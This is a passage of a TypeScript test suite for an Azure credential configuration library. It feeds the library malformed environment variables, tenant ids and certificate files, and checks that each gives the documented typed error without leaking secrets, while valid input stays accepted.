  { name: "DefaultAzureCredential with AZURE_TENANT_ID holding a slash", run: () => new DefaultAzureCredential({ env: { ...envSecret, AZURE_TENANT_ID: "contoso/b2c" } }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "AZURE_TENANT_ID" },
  { name: "DefaultAzureCredential with a garbage AZURE_CLIENT_CERTIFICATE_PATH", run: () => new DefaultAzureCredential({ env: envCertificate(fx.file.random) }), error: CertificateError, code: "ERR_CERT_FORMAT", path: "AZURE_CLIENT_CERTIFICATE_PATH" },
  config("credential environment, encrypted PEM with a wrong password", { credential: "environment" }, "ERR_CERT_PASSWORD", "AZURE_CLIENT_CERTIFICATE_PATH", () => ({ env: envCertificate(fx.file.encryptedPem, WRONG_PASSWORD) })),
  fromEnvironment("Azure__credential=managedidentityy", { Azure__credential: "managedidentityy" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  fromEnvironment("Azure__clientSecert (a typo) holding the secret", { Azure__credential: "clientsecret", Azure__tenantId: T, Azure__clientId: C, Azure__clientSecert: SECRET }, "ERR_CONFIG_UNKNOWN_KEY", "Azure:clientSecert"),
  fromEnvironment("Azure__sendCertificateChain=yes", () => ({ Azure__tenantId: T, Azure__clientId: C, Azure__clientCertificatePath: fx.file.pfx, Azure__clientCertificatePassword: PFX_PASSWORD, Azure__sendCertificateChain: "yes" }), "ERR_CONFIG_INVALID_VALUE", "Azure:sendCertificateChain"),
  fromEnvironment("Azure__processTimeoutInMs=10s", { Azure__credential: "azurecli", Azure__processTimeoutInMs: "10s" }, "ERR_CONFIG_INVALID_VALUE", "Azure:processTimeoutInMs"),
  fromEnvironment("Azure__tokenCache=redis", { Azure__credential: "clientsecret", Azure__tenantId: T, Azure__clientId: C, Azure__clientSecret: SECRET, Azure__tokenCache: "redis" }, "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCache"),
  fromEnvironment("Azure__clientCertificateKeyVault__mode=steal", { Azure__tenantId: T, Azure__clientId: C, Azure__clientCertificateKeyVault__vaultUri: "https://v.vault.azure.net", Azure__clientCertificateKeyVault__name: "app", Azure__clientCertificateKeyVault__mode: "steal" }, "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:mode"),
  fromEnvironment("Azure__sources__0__credential=azureclii", { Azure__credential: "chained", Azure__sources__0__credential: "azureclii", Azure__sources__1__credential: "managedidentity" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:sources:0:credential"),
  fromEnvironment("Azure__sources__1 without Azure__sources__0", { Azure__credential: "chained", Azure__sources__1__credential: "azurecli" }, "ERR_CONFIG_INVALID_VALUE", "Azure:sources"),
  fromEnvironment("AZURE__AUTHORITYHOST=http://… (upper case)", { AZURE__CREDENTIAL: "clientsecret", AZURE__TENANTID: T, AZURE__CLIENTID: C, AZURE__CLIENTSECRET: SECRET, AZURE__AUTHORITYHOST: "http://login.microsoftonline.com" }, "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  fromEnvironment("Azure__clientCertificatePath to a garbage file", () => ({ Azure__tenantId: T, Azure__clientId: C, Azure__clientCertificatePath: fx.file.random }), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  fromEnvironment("AzureCredentials__backend without its secret", { Azure__credentialName: "backend", AzureCredentials__backend__credential: "clientsecret", AzureCredentials__backend__tenantId: T, AzureCredentials__backend__clientId: C }, "ERR_CONFIG_MISSING_VALUE", "AzureCredentials:backend:clientSecret"),
  fromEnvironment("Azure__additionallyAllowedTenants with commas", { Azure__credential: "clientsecret", Azure__tenantId: T, Azure__clientId: C, Azure__clientSecret: SECRET, Azure__additionallyAllowedTenants: `${T2},${T}` }, "ERR_CONFIG_TENANT_ID", "Azure:additionallyAllowedTenants"),
  fromEnvironment("AZURE_TOKEN_CREDENTIALS=Production with Azure__credential=default", { Azure__credential: "default", AZURE_TOKEN_CREDENTIALS: "Production" }, "ERR_CONFIG_INVALID_VALUE", "AZURE_TOKEN_CREDENTIALS"),
  fromEnvironment("Azure__credentialName beside Azure__clientId", { Azure__credentialName: "backend", Azure__clientId: C, AzureCredentials__backend__credential: "azurecli" }, "ERR_CONFIG_CONFLICT", "Azure:clientId"),
];

// ----- certificate files -----

const file = (name: keyof Fixtures["file"] | string, password?: string, path = "Azure:clientCertificatePath") => () => loadCertificateFile(fx.file[name] ?? name, password, path);
const certificateFileRows: Row[] = [
  certificate("random bytes", file("random", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("random bytes starting like DER (0x30)", file("derLike", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("an empty file", file("empty"), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a file of blank lines", file("blank"), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a PFX cut to 1 byte", file("pfxAt1", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a PFX cut to 64 bytes", file("pfxAt64", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a PFX cut in half", file("pfxHalf", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a PFX missing its last byte", file("pfxLastByte", PFX_PASSWORD), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("an AES PFX with a wrong password", () => loadCertificatePfx(fx.pfx, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "pfx"),
  certificate("a 3DES PFX with a wrong password", () => loadCertificatePfx(fx.pfx3des, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "pfx"),
  certificate("an RC2 PFX with a wrong password", () => loadCertificatePfx(fx.pfxRc2, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "pfx"),
  certificate("a PFX password in the wrong letter case", () => loadCertificatePfx(fx.pfx, PFX_PASSWORD.toUpperCase()), "ERR_CERT_PASSWORD", "pfx"),
  certificate("a protected PFX, no password", () => loadCertificatePfx(fx.pfx), "ERR_CERT_PASSWORD_REQUIRED", "pfx"),
  certificate("a protected PFX, empty password", () => loadCertificatePfx(fx.pfx, ""), "ERR_CERT_PASSWORD_REQUIRED", "pfx"),
  certificate("an unprotected PFX given a password", () => loadCertificatePfx(fx.pfxNoPassword, PFX_PASSWORD), "ERR_CERT_PASSWORD", "pfx"),
  certificate("a PFX file named .cer, wrong password", file("pfxAsCer", WRONG_PASSWORD, "certificatePath"), "ERR_CERT_PASSWORD", "certificatePath"),
  certificate("base64 of a truncated PFX", () => loadCertificatePfx(fx.pfx.subarray(0, 200).toString("base64"), PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("base64 of random bytes", () => loadCertificatePfx(randomBytes(300).toString("base64"), PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("base64 with a data: URL prefix", () => loadCertificatePfx(`data:application/x-pkcs12;base64,${fx.pfx.toString("base64")}`, PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("a hex dump of the PFX", () => loadCertificatePfx(fx.pfx.toString("hex"), PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("base64 of a PEM file given as PFX", () => loadCertificatePfx(Buffer.from(fx.cert.keyPem + fx.cert.certPem).toString("base64")), "ERR_CERT_FORMAT", "pfx"),
  certificate("PEM bytes given as PFX", () => loadCertificatePfx(Buffer.from(fx.cert.keyPem + fx.cert.certPem)), "ERR_CERT_FORMAT", "pfx"),
  certificate("a PFX's base64 given as PEM", () => loadCertificatePem(fx.pfx.toString("base64"), PFX_PASSWORD), "ERR_CERT_FORMAT", "certificate"),
  certificate("garbage inside the key block", () => loadCertificatePem(corruptBody(fx.cert.keyPem) + fx.cert.certPem), "ERR_CERT_FORMAT", "certificate"),
  certificate("garbage inside the certificate block", () => loadCertificatePem(fx.cert.keyPem + corruptBody(fx.cert.certPem)), "ERR_CERT_FORMAT", "certificate"),
  certificate("a key pasted without its END line", () => loadCertificatePem(fx.cert.certPem + fx.cert.keyPem.replace("-----END PRIVATE KEY-----", "")), "ERR_CERT_NO_PRIVATE_KEY", "certificate"),
  certificate("a certificate pasted without its END line", () => loadCertificatePem(fx.cert.keyPem + fx.cert.certPem.replace("-----END CERTIFICATE-----", "")), "ERR_CERT_NO_CERTIFICATE", "certificate"),
  certificate("only the certificate", file("certOnly"), "ERR_CERT_NO_PRIVATE_KEY", "Azure:clientCertificatePath"),
  certificate("only the key", () => loadCertificatePem(fx.cert.keyPem), "ERR_CERT_NO_CERTIFICATE", "certificate"),
  certificate("the public key instead of the private key", () => loadCertificatePem(createPublicKey(fx.cert.key).export({ type: "spki", format: "pem" }).toString() + fx.cert.certPem), "ERR_CERT_NO_PRIVATE_KEY", "certificate"),
  certificate("a certificate request (CSR) instead of the certificate", () => loadCertificatePem(fx.csr + fx.cert.keyPem), "ERR_CERT_NO_CERTIFICATE", "certificate"),
  certificate("a PKCS#7 (.p7b) bundle instead of the certificate", () => loadCertificatePem(fx.p7b + fx.cert.keyPem), "ERR_CERT_NO_CERTIFICATE", "certificate"),
  certificate("the public .cer (DER) file", file("derCert"), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a PFX exported without the key", () => loadCertificatePfx(fx.pfxNoKeys, PFX_PASSWORD), "ERR_CERT_NO_PRIVATE_KEY", "pfx"),
  certificate("a PFX exported without the certificate", () => loadCertificatePfx(fx.pfxNoCerts, PFX_PASSWORD), "ERR_CERT_NO_CERTIFICATE", "pfx"),
  certificate("encrypted PKCS#8 with a wrong password", () => loadCertificatePem(encryptedPkcs8(fx.cert, PEM_PASSWORD) + fx.cert.certPem, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "certificate"),
  certificate("encrypted PKCS#1 with a wrong password", () => loadCertificatePem(encryptedPkcs1(fx.cert, PEM_PASSWORD) + fx.cert.certPem, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "certificate"),
  certificate("encrypted PKCS#8, no password", () => loadCertificatePem(encryptedPkcs8(fx.cert, PEM_PASSWORD) + fx.cert.certPem), "ERR_CERT_PASSWORD_REQUIRED", "certificate"),
  certificate("encrypted PKCS#1, empty password", () => loadCertificatePem(encryptedPkcs1(fx.cert, PEM_PASSWORD) + fx.cert.certPem, ""), "ERR_CERT_PASSWORD_REQUIRED", "certificate"),
  certificate("the key of another certificate", () => loadCertificatePem(fx.other.keyPem + fx.cert.certPem), "ERR_CERT_KEY_MISMATCH", "certificate"),
  certificate("an RSA key beside an EC certificate", () => loadCertificatePem(fx.cert.keyPem + fx.ec.certPem), "ERR_CERT_KEY_MISMATCH", "certificate"),
  certificate("an EC key (PEM)", () => loadCertificatePem(fx.ec.keyPem + fx.ec.certPem), "ERR_CERT_KEY_TYPE", "certificate"),
  certificate("an EC key (PFX)", () => loadCertificatePfx(fx.pfxEc, PFX_PASSWORD), "ERR_CERT_KEY_TYPE", "pfx"),
  certificate("an Ed25519 key", () => loadCertificatePem(fx.ed25519.keyPem + fx.ed25519.certPem), "ERR_CERT_KEY_TYPE", "certificate"),
  certificate("an expired certificate (PEM)", () => loadCertificatePem(fx.expired.keyPem + fx.expired.certPem), "ERR_CERT_EXPIRED", "certificate"),
  certificate("an expired certificate (legacy PFX)", () => loadCertificatePfx(fx.pfxExpired, PFX_PASSWORD), "ERR_CERT_EXPIRED", "pfx"),
  certificate("a certificate valid only from next week", () => loadCertificatePem(fx.future.keyPem + fx.future.certPem), "ERR_CERT_NOT_YET_VALID", "certificate"),
  certificate("a directory", file("subdir"), "ERR_CERT_IS_DIRECTORY", "Azure:clientCertificatePath"),
  certificate("a missing file", file("missing", PFX_PASSWORD), "ERR_CERT_NOT_FOUND", "Azure:clientCertificatePath"),
  certificate("a path through a regular file (ENOTDIR)", file("notADirectory"), "ERR_CERT_NOT_FOUND", "Azure:clientCertificatePath"),
  certificate("a dangling symbolic link (a rotated secret mount)", file("dangling"), "ERR_CERT_NOT_FOUND", "Azure:clientCertificatePath"),
  certificate("a symbolic link loop", file("loopA"), "ERR_CERT_READ", "Azure:clientCertificatePath"),
  certificate("a FIFO", () => unblockingFifo(fx.file.fifo, file("fifo")), "ERR_CERT_READ", "Azure:clientCertificatePath", 1000),
  certificate("/dev/zero", file("/dev/zero"), "ERR_CERT_READ", "Azure:clientCertificatePath", 1000),
  certificate("/dev/null", file("/dev/null"), "ERR_CERT_READ", "Azure:clientCertificatePath", 1000),
  certificate("a file over 1 MiB", file("big"), "ERR_CERT_READ", "Azure:clientCertificatePath", 1000),
  certificate("a path holding a NUL byte", file("/secrets/app.pfx\0.pem"), "ERR_CERT_READ", "Azure:clientCertificatePath"),
  certificate("a PEM saved as UTF-16 (Notepad 'Unicode')", file("utf16Pem"), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("a UTF-8 BOM before text that is not PEM", file("bomGarbage"), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  certificate("loadCertificateFile(process.env.UNSET)", () => loadCertificateFile(undefined as unknown as string), "ERR_CERT_NOT_FOUND", "certificatePath"),
  certificate("loadCertificatePem(process.env.UNSET)", () => loadCertificatePem(undefined as unknown as string), "ERR_CERT_FORMAT", "certificate"),
  certificate("loadCertificatePfx(null)", () => loadCertificatePfx(null as unknown as string, PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("loadCertificatePfx(a number)", () => loadCertificatePfx(42 as unknown as string, PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
  certificate("loadCertificatePem('')", () => loadCertificatePem("", PEM_PASSWORD), "ERR_CERT_FORMAT", "certificate"),
  certificate("loadCertificatePfx(an empty Buffer)", () => loadCertificatePfx(Buffer.alloc(0), PFX_PASSWORD), "ERR_CERT_FORMAT", "pfx"),
];

// ----- certificates in configuration -----

const certificateConfigurationRows: Row[] = [
  config("clientCertificatePath to random bytes", () => withCertificate({ clientCertificatePath: fx.file.random, clientCertificatePassword: PFX_PASSWORD }), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  config("clientCertificatePassword wrong for the PFX", () => withCertificate({ clientCertificatePath: fx.file.pfx, clientCertificatePassword: WRONG_PASSWORD }), "ERR_CERT_PASSWORD", "Azure:clientCertificatePath"),
  config("clientCertificatePassword missing for the PFX", () => withCertificate({ credential: "clientcertificate", clientCertificatePath: fx.file.pfx }), "ERR_CERT_PASSWORD_REQUIRED", "Azure:clientCertificatePath"),
  config("clientCertificatePassword wrong for an encrypted PEM", () => withCertificate({ clientCertificatePath: fx.file.encryptedPem, clientCertificatePassword: WRONG_PASSWORD }), "ERR_CERT_PASSWORD", "Azure:clientCertificatePath"),
  config("clientCertificatePath to an EC certificate", () => withCertificate({ clientCertificatePath: fx.file.ecPem }), "ERR_CERT_KEY_TYPE", "Azure:clientCertificatePath"),
  config("clientCertificatePath to an expired PFX", () => withCertificate({ clientCertificatePath: fx.file.pfxExpired, clientCertificatePassword: PFX_PASSWORD }), "ERR_CERT_EXPIRED", "Azure:clientCertificatePath"),
  {
    name: "clientCertificatePath to a FIFO",
    run: () => unblockingFifo(fx.file.fifo, () => createCredential(withCertificate({ clientCertificatePath: fx.file.fifo }), { env: {} })),
    error: CertificateError,
    code: "ERR_CERT_READ",
    path: "Azure:clientCertificatePath",
    maxMs: 1000,
  },
  { ...config("clientCertificatePath=/dev/zero", withCertificate({ clientCertificatePath: "/dev/zero" }), "ERR_CERT_READ", "Azure:clientCertificatePath"), maxMs: 1000 },
  config("clientCertificatePath to a truncated PFX", () => withCertificate({ clientCertificatePath: fx.file.pfxHalf, clientCertificatePassword: PFX_PASSWORD }), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  config("clientCertificatePath to a PEM with only the certificate", () => withCertificate({ clientCertificatePath: fx.file.certOnly }), "ERR_CERT_NO_PRIVATE_KEY", "Azure:clientCertificatePath"),
  config("clientCertificatePath with garbage inside the key", () => withCertificate({ clientCertificatePath: fx.file.garbageKeyPem }), "ERR_CERT_FORMAT", "Azure:clientCertificatePath"),
  config("clientCertificateData: encrypted PEM, wrong password", () => withCertificate({ clientCertificateData: encryptedPkcs8(fx.cert, PEM_PASSWORD) + fx.cert.certPem, clientCertificatePassword: WRONG_PASSWORD }), "ERR_CERT_PASSWORD", "Azure:clientCertificateData"),
  config("clientCertificateData: base64 of a truncated PFX", () => withCertificate({ clientCertificateData: fx.pfx.subarray(0, 300).toString("base64"), clientCertificatePassword: PFX_PASSWORD }), "ERR_CERT_FORMAT", "Azure:clientCertificateData"),
  config("clientCertificateData: base64 PFX, wrong password", () => withCertificate({ clientCertificateData: fx.pfx.toString("base64"), clientCertificatePassword: WRONG_PASSWORD }), "ERR_CERT_PASSWORD", "Azure:clientCertificateData"),
  config("clientCertificateData: the key without the certificate", () => withCertificate({ clientCertificateData: fx.cert.keyPem }), "ERR_CERT_NO_CERTIFICATE", "Azure:clientCertificateData"),
  config("clientCertificateData: base64 of the PEM file", () => withCertificate({ clientCertificateData: Buffer.from(fx.cert.keyPem + fx.cert.certPem).toString("base64") }), "ERR_CERT_FORMAT", "Azure:clientCertificateData"),
  config("clientCertificateData: the key of another certificate", () => withCertificate({ clientCertificateData: fx.other.keyPem + fx.cert.certPem }), "ERR_CERT_KEY_MISMATCH", "Azure:clientCertificateData"),
  config("store thumbprint whose file is garbage", () => withCertificate({ clientCertificate: "ab".repeat(20), clientCertificateStorePath: fx.storeDir }), "ERR_CERT_FORMAT", "Azure:clientCertificate"),
  config("store file holding another certificate than its name says", () => withCertificate({ clientCertificate: fx.otherThumbprint, clientCertificateStorePath: fx.storeDir }), "ERR_CERT_KEY_MISMATCH", "Azure:clientCertificate"),
  config("store file protected by a password", () => withCertificate({ clientCertificate: fx.thumbprint, clientCertificateStorePath: fx.storeDir }), "ERR_CERT_PASSWORD_REQUIRED", "Azure:clientCertificate"),
  config("a SHA-256 thumbprint where SHA-1 is expected", () => withCertificate({ clientCertificate: "AB".repeat(32), clientCertificateStorePath: fx.storeDir }), "ERR_CERT_FORMAT", "Azure:clientCertificate"),
  config("clientCertificateStorePath is a file", () => withCertificate({ clientCertificate: fx.thumbprint, clientCertificateStorePath: fx.file.pfx }), "ERR_CERT_NOT_FOUND", "Azure:clientCertificate"),
  config("a named credential's certificate is garbage", { credentialName: "backend" }, "ERR_CERT_FORMAT", "AzureCredentials:backend:clientCertificatePath", () => ({ namedCredentials: { backend: withCertificate({ clientCertificatePath: fx.file.random }) } })),
  config("a chain member's certificate expired", () => ({ credential: "chained", sources: [{ credential: "azurecli" }, withCertificate({ clientCertificatePath: fx.file.pfxExpired, clientCertificatePassword: PFX_PASSWORD })] }), "ERR_CERT_EXPIRED", "Azure:sources:1:clientCertificatePath"),
  { name: "ClientCertificateCredential with a missing file", run: () => new ClientCertificateCredential(T, C, fx.file.missing), error: CertificateError, code: "ERR_CERT_NOT_FOUND", path: "certificatePath" },
  { name: "ClientCertificateCredential with a truncated PFX buffer", run: () => new ClientCertificateCredential(T, C, { pfx: fx.pfx.subarray(0, 500), certificatePassword: PFX_PASSWORD }), error: CertificateError, code: "ERR_CERT_FORMAT", path: "pfx" },
  { name: "ClientCertificateCredential with an encrypted PEM and a wrong password", run: () => new ClientCertificateCredential(T, C, { certificate: encryptedPkcs1(fx.cert, PEM_PASSWORD) + fx.cert.certPem, certificatePassword: WRONG_PASSWORD }), error: CertificateError, code: "ERR_CERT_PASSWORD", path: "certificate" },
];

const TABLE: Record<string, Row[]> = {
  "configuration fixtures (test/fixtures/bad-configurations)": fixtureRows,
  configuration: configurationRows,
  "authority hosts": authorityRows,
  "tenant ids": tenantRows,
  "scopes passed to getToken": scopeRows,
  "environment values": environmentRows,
  "certificate files": certificateFileRows,
  "certificates in configuration": certificateConfigurationRows,
};
const ALL_ROWS = Object.values(TABLE).flat();

// ------------------------------------------------------------------------------------------------ the check

/** Fails the row instead of waiting for the test timeout when a promise never settles. */
const HANG_MS = 5_000;

async function outcome(row: Row): Promise<{ error?: unknown; returned?: unknown; synchronousThrow?: unknown; ms: number }> {
  const started = performance.now();
  let result: unknown;
  try {
    result = row.run();
  } catch (error) {
    const ms = performance.now() - started;
    return row.async ? { synchronousThrow: error, ms } : { error, ms };
  }
  if (!row.async) return { returned: result, ms: performance.now() - started };
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no answer within ${HANG_MS} ms`)), HANG_MS);
  });
  try {
    const value = await Promise.race([Promise.resolve(result), hang]);
    return { returned: value, ms: performance.now() - started };
  } catch (error) {
    return { error, ms: performance.now() - started };
  } finally {
    clearTimeout(timer);
  }
}

/** Everything an error shows: message, stack, inspect, JSON, for it and every cause (and aggregated errors). */
function everythingShown(error: unknown, depth = 0): string {
  if (depth > 10 || error === undefined || error === null) return "";
  if (typeof error !== "object") return String(error);
  const e = error as { message?: unknown; stack?: unknown; cause?: unknown; errors?: unknown[] };
  let json = "";
  try {
    json = JSON.stringify(error) ?? "";
  } catch {
    json = "";
  }
  const parts = [String(e.message ?? ""), String(e.stack ?? ""), inspect(error, { depth: 10 }), json, everythingShown(e.cause, depth + 1)];
  for (const inner of Array.isArray(e.errors) ? e.errors : []) parts.push(everythingShown(inner, depth + 1));
  return parts.join("\n");
}

let restoreEnvironment: () => void = () => {};

beforeAll(async () => {
  buildFixtures();
  emu = await startEmulator();
  fx.port = await closedLoopbackPort();
  const imdsPort = await closedLoopbackPort();
  // No AZURE_* variable of the machine leaks in; IMDS is a closed loopback port; no az/azd on PATH.
  restoreEnvironment = isolateEnvironment({ AZURE_POD_IDENTITY_AUTHORITY_HOST: `http://127.0.0.1:${imdsPort}`, PATH: tempDir("acf-empty-path-") });
}, 60_000);

afterAll(async () => {
  restoreEnvironment();
  await emu?.stop();
});

/** The fixes made for this table must not refuse the good input next to each mistake. */
describe("good input next to the mistakes stays accepted", () => {
  it("a chain member may name a credential; the chain then holds that credential", () => {
    const d = describeCredential({ credential: "chained", sources: [{ credential: "managedidentity" }, { credentialName: "dev" }] }, { env: {}, namedCredentials: { dev: { credential: "azurecli" } } });
    expect(d.sources?.map((s) => [s.className, s.namedCredential])).toEqual([["ManagedIdentityCredential", undefined], ["AzureCliCredential", "dev"]]);
  });

  it("a chain from Azure__sources__N variables, and a JSON chain whose member a variable overrides by index", () => {
    const env = { Azure__credential: "chained", Azure__sources__0__credential: "azurecli", Azure__sources__1__credential: "managedidentity" };
    const fromEnv = describeCredential(getSection(loadConfiguration({ env, files: [] }), "Azure")!, { env: {} });
    expect(fromEnv.sources?.map((s) => s.className)).toEqual(["AzureCliCredential", "ManagedIdentityCredential"]);
    const json = writeFile(tempDir(), "appsettings.json", JSON.stringify({ Azure: { credential: "chained", sources: [{ credential: "azurecli" }, { credential: "managedidentity" }] } }));
    const merged = loadConfiguration({ files: [json], env: { Azure__sources__1__managedIdentityClientId: C } });
    const d = describeCredential(getSection(merged, "Azure")!, { env: {} });
    expect(d.sources?.map((s) => s.className)).toEqual(["AzureCliCredential", "ManagedIdentityCredential"]);
    expect(d.sources?.[1].settings).toEqual({ credential: "managedidentity", managedIdentityClientId: C });
  });

  it("tenant lists with '*', ';' and domains; the largest timeout a timer holds; a plain cache name", () => {
    for (const additionallyAllowedTenants of ["*", `${T2};contoso.onmicrosoft.com`, [T2, "contoso.onmicrosoft.com"]]) {
      expect(createCredential(sp({ additionallyAllowedTenants, requestTimeoutMs: 2_147_483_647 }), { env: {} })).toBeInstanceOf(ClientSecretCredential);
    }
    expect(validateCredentialSection({ credential: "devicecode", tokenCachePersistenceOptions: { enabled: true, name: "orders-api_cache.v2" } }, "Azure").problems).toEqual([]);
  });

  it("'organizations' for user sign-in and the CLI; a managed identity id beside the app's clientId; blank keys beside credentialName", () => {
    expect(createCredential({ credential: "devicecode", tenantId: "organizations" }, { env: {} })).toBeInstanceOf(DeviceCodeCredential);
    expect(createCredential({ credential: "azurecli", tenantId: "organizations" }, { env: {} })).toBeInstanceOf(AzureCliCredential);
    expect(createCredential({ credential: "managedidentity", clientId: C, managedIdentityClientId: T2 }, { env: {} })).toBeInstanceOf(ManagedIdentityCredential);
    expect(createCredential({ credentialName: "dev", clientSecret: "", tenantId: null }, { env: {}, namedCredentials: { dev: { credential: "azurecli" } } })).toBeInstanceOf(AzureCliCredential);
  });

  it("constructor options at their limits, and null for 'not set', stay accepted; a 253-character tenant; a cache name with dots", () => {
    const limits = { requestTimeoutMs: 2_147_483_647, retryOptions: { maxRetries: 0, initialDelayMs: 0, maxDelayMs: 2_147_483_647, maxTotalMs: 0, retryStatuses: () => false } };
    expect(new ClientSecretCredential(T, C, SECRET, limits)).toBeInstanceOf(ClientSecretCredential);
    expect(new ClientSecretCredential(T, C, SECRET, { requestTimeoutMs: null, retryOptions: null } as never)).toBeInstanceOf(ClientSecretCredential);
    expect(new ClientSecretCredential(T, C, SECRET, { retryOptions: { maxRetries: null, maxTotalMs: null } } as never)).toBeInstanceOf(ClientSecretCredential);
    expect(new ClientSecretCredential(`${"a".repeat(241)}.contoso.com`, C, SECRET)).toBeInstanceOf(ClientSecretCredential);
    expect(new DefaultAzureCredential({ env: {}, managedIdentityRetryOptions: { maxRetries: 1, maxTotalMs: 5000 } })).toBeInstanceOf(DefaultAzureCredential);
    expect(new AzureCliCredential({ processTimeoutInMs: 2_147_483_647 })).toBeInstanceOf(AzureCliCredential);
    const file = join(tempDir(), "cache");
    expect(new ClientSecretCredential(T, C, SECRET, { tokenCachePersistenceOptions: { enabled: true, name: "orders-api_cache.v2", directory: file, unsafeAllowUnencryptedStorage: true } })).toBeInstanceOf(ClientSecretCredential);
  });

  it("PEM with openssl's 'Bag Attributes' before the blocks and junk after them, and a UTF-8 BOM, still loads", () => {
    const pem = `Bag Attributes\n    localKeyID: 01 00 00 00\nsubject=/CN=table-app\n${fx.cert.keyPem}${fx.cert.certPem}\n-- end of export --\n`;
    expect(loadCertificatePem(pem).subject).toBe("CN=table-app");
    expect(loadCertificateFile(writeFile(fx.dir, "bom-ok.pem", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(pem)]))).subject).toBe("CN=table-app");
  });
});

describe(`bad input table: ${ALL_ROWS.length} hand-written rows`, () => {
  for (const [category, rows] of Object.entries(TABLE)) {
    describe(`${category} (${rows.length})`, () => {
      for (const row of rows) {
        const where = row.path !== undefined ? ` at ${JSON.stringify(row.path)}` : ` naming ${row.mentions?.join(", ")}`;
        it(`${row.name}: ${row.error.name} ${row.code}${where}`, async () => {
          const result = await outcome(row);
          expect(result.synchronousThrow, "getToken must reject, not throw synchronously").toBeUndefined();
          expect(result.error, `expected ${row.code}; got no error (returned ${inspect(result.returned, { depth: 0 })})`).toBeDefined();
          const error = result.error as Error & { code?: unknown; path?: unknown };
          expect(error.constructor?.name, `untyped or wrongly typed error: ${String(error?.message ?? error)}`).toBe(row.error.name);
          expect(Object.getPrototypeOf(error)).toBe(row.error.prototype);
          expect(error.code).toBe(row.code);
          if (row.path !== undefined) expect(error.path).toBe(row.path);
          else expect(error).not.toHaveProperty("path");
          for (const m of row.mentions ?? []) expect(error.message).toContain(m);
          if (row.maxMs !== undefined) expect(result.ms).toBeLessThan(row.maxMs);
          const shown = everythingShown(error);
          for (const secret of [...SECRETS, ...fx.keyLines, ...(row.secrets ?? [])]) expect(shown, "a secret is shown").not.toContain(secret);
        });
      }
    });
  }

  it("has at least 150 rows, each a distinct mistake", () => {
    expect(ALL_ROWS.length).toBeGreaterThanOrEqual(150);
    expect(new Set(ALL_ROWS.map((r) => r.name)).size).toBe(ALL_ROWS.length);
    for (const rows of Object.values(TABLE)) expect(rows.length).toBeGreaterThan(0);
  });

  it("uses only codes the library documents (ERROR_CODES, exported by the package), each on its own class", () => {
    for (const row of ALL_ROWS) {
      expect(ERROR_CODES).toContain(row.code);
      expect(classOf(row.code)).toBe(row.error);
    }
    for (const code of CONFIGURATION_ERROR_CODES) expect(classOf(code)).toBe(ConfigurationError);
    for (const code of CERTIFICATE_ERROR_CODES) expect(classOf(code)).toBe(CertificateError);
    expect(ERROR_CODES).toEqual(expect.arrayContaining([...CONFIGURATION_ERROR_CODES, ...CERTIFICATE_ERROR_CODES]));
    // a ConfigurationError carries a path; an unavailable credential names what is missing instead
    for (const row of ALL_ROWS) expect(row.path !== undefined || (row.mentions?.length ?? 0) > 0).toBe(true);
  });

  it("the leak check sees a secret in the message, the stack, a property or a nested cause", () => {
    const hidden = (e: Error) => SECRETS.some((secret) => everythingShown(e).includes(secret));
    expect(hidden(new ConfigurationError("ERR_CONFIG_INVALID_VALUE", "Azure:x", `bad ${SECRET}`))).toBe(true);
    expect(hidden(Object.assign(new Error("plain"), { detail: { password: PFX_PASSWORD } }))).toBe(true);
    expect(hidden(new CertificateError("ERR_CERT_FORMAT", "pfx", "x", { cause: new Error("y", { cause: new Error(`z ${REDIS_PASSWORD}`) }) }))).toBe(true);
    expect(hidden(new ConfigurationError("ERR_CONFIG_INVALID_VALUE", "Azure:x", "nothing secret here"))).toBe(false);
    expect(fx.keyLines.every((line) => /^[A-Za-z0-9+/]{64}$/.test(line))).toBe(true);
  });
});
